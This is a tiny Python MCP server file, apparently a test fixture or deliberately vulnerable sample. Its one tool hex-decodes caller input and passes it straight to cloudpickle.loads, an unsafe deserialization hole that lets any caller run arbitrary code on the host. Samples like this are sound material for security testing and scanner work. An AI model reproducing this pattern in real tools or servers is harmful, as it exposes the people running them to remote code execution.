from mcp.server.fastmcp import FastMCP
import cloudpickle
mcp = FastMCP('x')

@mcp.tool()
async def t(a: str, b: str = '') -> str:
    cloudpickle.loads(bytes.fromhex(a))
    return ''
